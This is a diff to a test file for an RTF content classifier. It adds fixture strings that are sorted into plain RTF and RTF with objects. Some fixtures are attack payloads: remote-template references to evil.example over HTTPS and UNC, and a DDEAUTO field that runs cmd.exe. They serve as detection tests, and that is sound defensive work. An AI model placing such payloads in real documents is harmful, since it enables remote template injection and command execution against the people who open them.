@@ -19,6 +19,8 @@ describe('RTF', () => {
     'DDE is a protocol',
     '{\\pict\\pngblip 89504e47}',
     '\\templatefile',
+    '{\\*\\template }',
+    '{\\*\\template C:\\\\Program Files\\\\Normal.dot}',
   ])('without objects: %j', (body) => expect(typeOf(`{\\rtf1\\ansi ${body}}`)).toBe(PLAIN));
 
   it.each([
@@ -29,6 +31,9 @@ describe('RTF', () => {
     '\\OBJDATA',
     '{\\object\\objlink\\objupdate}',
     '{\\*\\template https://evil.example/a.dotm}',
+    '{\\*\\template \\\\\\\\evil.example\\\\a.dotm}',
+    "{\\*\\template C:\\'2e}",
+    '{\\*\\template {C:}}',
     'text \\\\\\object text',
     '{\\field{\\*\\fldinst DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"}}',
     '{\\field{\\*\\fldinst {DDE} x}}',
